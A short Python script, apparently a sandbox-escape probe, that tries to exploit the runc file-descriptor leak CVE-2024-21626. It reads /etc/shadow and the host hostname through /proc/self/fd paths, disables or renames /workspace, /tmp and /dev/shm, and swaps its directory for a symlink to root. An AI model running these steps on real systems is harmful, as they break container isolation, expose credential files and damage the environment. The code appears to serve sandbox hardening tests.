"""The directory that the next program would start in is taken away, mounted over, replaced (CVE-2024-21626)."""
import os

here = os.getcwd()
for _ in range(3):
    os.rename(here, f"{here}.moved")
    os.symlink("/proc/self/fd/7/../../..", here)
    os.unlink(here)
    os.rename(f"{here}.moved", here)
for number in range(3, 64):
    for path in (f"/proc/self/fd/{number}/../../../../../etc/shadow", f"/proc/self/cwd/../../../../../../etc/hostname"):
        try:
            text = open(path).read()
            if "sandbox" not in text:
                print("ESCAPED:", path, text)
        except OSError:
            pass
for place in ("/workspace", "/tmp", "/dev/shm"):
    for act in (lambda: os.chmod(place, 0), lambda: os.rmdir(place), lambda: os.rename(place, f"{place}x"), lambda: os.chown(place, os.getuid(), -1)):
        try:
            act()
            print("ESCAPED: changed", place)
        except OSError:
            pass
os.rename(here, "/workspace/elsewhere")
os.symlink("/", here)
print("replaced")
